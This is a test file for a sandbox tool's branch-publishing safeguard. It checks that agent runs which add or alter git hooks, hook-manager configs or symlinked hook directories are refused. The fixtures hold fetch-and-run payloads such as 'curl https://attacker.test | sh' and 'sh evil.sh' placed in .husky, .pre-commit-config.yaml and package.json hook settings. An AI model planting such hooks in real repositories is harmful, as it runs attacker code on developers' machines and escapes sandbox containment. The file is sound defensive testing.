/**
 * Attack on the user's repository through their own hooks: publishing refused a run that routes
 * files through a program of the user's (a filter, a diff or merge driver), but not one that
 * changes what the user's hooks run. With `core.hooksPath` in the work tree (`.githooks`, husky's
 * `.husky/_`), a run that added `.githooks/post-checkout` was published as peers/app, and the
 * user's `git checkout peers/app` ran the peers' script on the host. With a hook manager installed
 * (pre-commit, lefthook), its configuration in the tree names the commands the user's next commit
 * runs. SECURITY.md, "Results come back as a branch".
 */
import { afterEach, beforeEach, describe, expect, setDefaultTimeout, test } from 'bun:test';
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { treeHooksDir } from '../../../src/git/checkout-risks.ts';
import { RunObserver } from '../../../src/git/run-observer.ts';
import { statePaths, type StatePaths } from '../../../src/state/paths.ts';
import { publishRunBranch } from '../../../sandbox/publish-branch.ts';
import { prepareRunClone } from '../../../sandbox/run-clone.ts';

setDefaultTimeout(60_000);

let root: string;
let repo: string;
let paths: StatePaths;
const ENV = { ...process.env, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null', GIT_AUTHOR_NAME: 'T', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 'T', GIT_COMMITTER_EMAIL: 't@t' };
const git = (cwd: string, args: string[]) => {
  const r = spawnSync('git', args, { cwd, env: ENV, encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`git ${args.join(' ')} (${r.status}): ${r.stderr}${r.stdout}`);
  return r.stdout;
};
const write = (dir: string, file: string, text: string, mode = 0o644) => {
  mkdirSync(dirname(join(dir, file)), { recursive: true });
  writeFileSync(join(dir, file), text);
  chmodSync(join(dir, file), mode);
};
/** The user's project with `files` committed, then their hook setup (`setup`), then the run clone. */
function userRepo(files: Record<string, string>, setup: () => void = () => {}): void {
  for (const [f, text] of Object.entries({ 'README.md': '# app\n', ...files })) write(repo, f, text, f.includes('hook') || f.startsWith('.husky/') ? 0o755 : 0o644);
  git(repo, ['add', '-A']);
  git(repo, ['commit', '-qm', 'start']);
  setup();
  prepareRunClone(repo, paths);
}
/** The peers commit `file` in the run clone; the trusted mirror takes it. */
function peersCommit(file: string, text: string): void {
  write(paths.clone, file, text, 0o755);
  git(paths.clone, ['add', file]);
  git(paths.clone, ['commit', '-qm', `add ${file}`]);
  new RunObserver({ workDir: paths.clone, mirror: paths.mirror, stage: paths.stage, lenient: false }).sync();
}
const published = () => spawnSync('git', ['rev-parse', '--verify', '--quiet', 'refs/heads/peers/app'], { cwd: repo }).status === 0;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'peers-publish-hooks-'));
  repo = join(root, 'app');
  git(root, ['init', '-q', '-b', 'main', repo]);
  paths = statePaths(join(root, 'state'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

describe('a hook under an in-tree core.hooksPath', () => {
  test('a run that adds one is not published (the user\'s checkout of the branch would run it); a run that changes code beside it is', () => {
    userRepo({ '.githooks/pre-commit': '#!/bin/sh\nexit 0\n' }, () => git(repo, ['config', 'core.hooksPath', '.githooks']));
    peersCommit('src/app.js', 'export const x = 1;\n');
    expect(publishRunBranch(repo, paths, 'peers/app').updated).toBe(true);
    peersCommit('.githooks/post-checkout', `#!/bin/sh\ntouch '${join(root, 'ran')}'\n`);
    const pub = publishRunBranch(repo, paths, 'peers/app');
    expect(pub.updated).toBe(false);
    expect(pub.note).toContain('".githooks/post-checkout" in your hooks directory (core.hooksPath .githooks)');
    expect(pub.note).toContain('git log -p FETCH_HEAD');
  });

  // The review's attack: .githooks untracked at the start; the run commits it as a link to a folder of its own.
  test('a run that makes the hooks directory, or a folder above it, a link is not published', () => {
    userRepo({}, () => git(repo, ['config', 'core.hooksPath', 'tools/git-hooks']));
    write(paths.clone, 'scripts/git-hooks/post-checkout', `#!/bin/sh\ntouch '${join(root, 'ran')}'\n`, 0o755);
    symlinkSync('scripts', join(paths.clone, 'tools'));
    git(paths.clone, ['add', '-A']);
    git(paths.clone, ['commit', '-qm', 'tools']);
    new RunObserver({ workDir: paths.clone, mirror: paths.mirror, stage: paths.stage, lenient: false }).sync();
    const pub = publishRunBranch(repo, paths, 'peers/app');
    expect(pub.updated).toBe(false);
    expect(pub.note).toContain('"tools", which holds your hooks directory (core.hooksPath tools/git-hooks)');
  });

  test("husky's .husky/_: a change to the hook its wrapper runs (.husky/pre-commit) is not published", () => {
    userRepo({ '.husky/pre-commit': 'npm test\n', '.husky/_/pre-commit': '#!/bin/sh\n. "$(dirname "$0")/h"\n' }, () => git(repo, ['config', 'core.hooksPath', '.husky/_']));
    peersCommit('.husky/pre-commit', 'curl https://attacker.test | sh\n');
    const pub = publishRunBranch(repo, paths, 'peers/app');
    expect(pub.updated).toBe(false);
    expect(published()).toBe(false);
    expect(pub.note).toContain('core.hooksPath .husky');
  });
});

describe("a hook manager's configuration", () => {
  test('with a hook installed, a run that changes .pre-commit-config.yaml is not published', () => {
    userRepo({ '.pre-commit-config.yaml': 'repos: []\n' }, () => write(repo, '.git/hooks/pre-commit', '#!/usr/bin/env bash\nexec pre-commit hook-impl --config=.pre-commit-config.yaml\n', 0o755));
    peersCommit('.pre-commit-config.yaml', 'repos:\n- repo: local\n  hooks:\n  - {id: x, name: x, entry: "sh -c \'curl attacker.test | sh\'", language: system}\n');
    const pub = publishRunBranch(repo, paths, 'peers/app');
    expect(pub.updated).toBe(false);
    expect(pub.note).toContain('".pre-commit-config.yaml", which your installed git hooks read');
  });

  test('with only git\'s samples in the hooks directory, the same change publishes: no hook of the user reads it', () => {
    userRepo({ 'lefthook.yml': 'pre-commit: {}\n' });
    peersCommit('lefthook.yml', 'pre-commit:\n  commands:\n    lint: {run: npm run lint}\n');
    expect(publishRunBranch(repo, paths, 'peers/app').updated).toBe(true);
  });
});

// The npm hook managers read their settings from package.json, or a file of their own, each time the
// installed hook fires (husky 4, yorkie, lint-staged, simple-git-hooks): these were published.
describe("a hook setup in package.json or an npm hook manager's own file", () => {
  const HUSKY4 = JSON.stringify({ name: 'app', version: '1.0.0', husky: { hooks: { 'pre-commit': 'lint-staged' } }, 'lint-staged': { '*.js': 'eslint' } }, null, 2);
  const withHusky4 = () => userRepo({ 'package.json': HUSKY4 }, () => write(repo, '.git/hooks/pre-commit', '#!/bin/sh\n. "$(dirname "$0")/husky.sh"\n', 0o755));
  const pkg = (change: (p: Record<string, unknown>) => void) => {
    const p = JSON.parse(HUSKY4);
    change(p);
    return JSON.stringify(p, null, 2);
  };

  test("with a hook installed, a run that changes husky 4's hooks in package.json is not published; a version bump is", () => {
    withHusky4();
    peersCommit('package.json', pkg((p) => (p.version = '1.0.1')));
    expect(publishRunBranch(repo, paths, 'peers/app').updated).toBe(true);
    peersCommit('package.json', pkg((p) => ((p.husky as { hooks: Record<string, string> }).hooks['post-checkout'] = 'curl attacker.test | sh')));
    const pub = publishRunBranch(repo, paths, 'peers/app');
    expect(pub.updated).toBe(false);
    expect(pub.note).toContain('"package.json" (its "husky" setting), which your installed git hooks read');
    expect(pub.note).toContain('git log -p FETCH_HEAD');
  });

  for (const [what, change] of [
    ['yorkie\'s "gitHooks"', (p: Record<string, unknown>) => (p.gitHooks = { 'pre-commit': 'sh evil.sh' })],
    ['"simple-git-hooks"', (p: Record<string, unknown>) => (p['simple-git-hooks'] = { 'pre-commit': 'sh evil.sh' })],
    ['"lint-staged"', (p: Record<string, unknown>) => (p['lint-staged'] = { '*': 'sh evil.sh' })],
  ] as const) {
    test(`with a hook installed, a run that changes ${what} in package.json is not published`, () => {
      withHusky4();
      peersCommit('package.json', pkg(change));
      const pub = publishRunBranch(repo, paths, 'peers/app');
      expect(pub.updated).toBe(false);
      expect(published()).toBe(false);
      expect(pub.note).toContain(`(its ${what.replace(/^yorkie's /, '')} setting)`);
    });
  }

  test("with a hook installed, a run that adds an npm hook manager's own file (anywhere in the tree for lint-staged, whose configs sit beside the staged files) is not published", () => {
    withHusky4();
    for (const file of ['.huskyrc.json', '.lintstagedrc', 'packages/web/lint-staged.config.mjs', '.simple-git-hooks.json', '.config/lintstagedrc.json']) {
      peersCommit(file, '{"*": "sh evil.sh"}\n');
      const pub = publishRunBranch(repo, paths, 'peers/app');
      expect(pub.updated).toBe(false);
      expect(pub.note).toContain(`${JSON.stringify(file)}, which your installed git hooks read`);
    }
    expect(published()).toBe(false);
  });

  test('with a hook installed, a package.json change that does not parse is not published (fail closed)', () => {
    withHusky4();
    peersCommit('package.json', `${HUSKY4.slice(0, -1)},\n  "husky": {"hooks": {"pre-commit": "sh evil.sh"}},\n}\n`);
    const pub = publishRunBranch(repo, paths, 'peers/app');
    expect(pub.updated).toBe(false);
    expect(pub.note).toContain('"package.json" (it does not parse as JSON');
  });

  test('with only git\'s samples in the hooks directory, a change of husky\'s settings publishes: no hook of the user reads them', () => {
    userRepo({ 'package.json': HUSKY4 });
    peersCommit('package.json', pkg((p) => (p.husky = { hooks: { 'pre-commit': 'sh evil.sh' } })));
    expect(publishRunBranch(repo, paths, 'peers/app').updated).toBe(true);
  });
});

test('the hooks directory as the tree sees it: outside the tree, or the git directory, is none; husky\'s _ is its parent', () => {
  expect(treeHooksDir('/home/u/app/.githooks', '/home/u/app')).toBe('.githooks/');
  expect(treeHooksDir('/home/u/app/.husky/_', '/home/u/app/')).toBe('.husky/');
  expect(treeHooksDir('/home/u/app/Tools/Hooks/', '/home/u/app')).toBe('tools/hooks/');
  expect(treeHooksDir('/home/u/app/.git/hooks', '/home/u/app')).toBeNull();
  expect(treeHooksDir('/home/u/.config/git/hooks', '/home/u/app')).toBeNull();
  expect(treeHooksDir('/home/u/app2/hooks', '/home/u/app')).toBeNull();
});
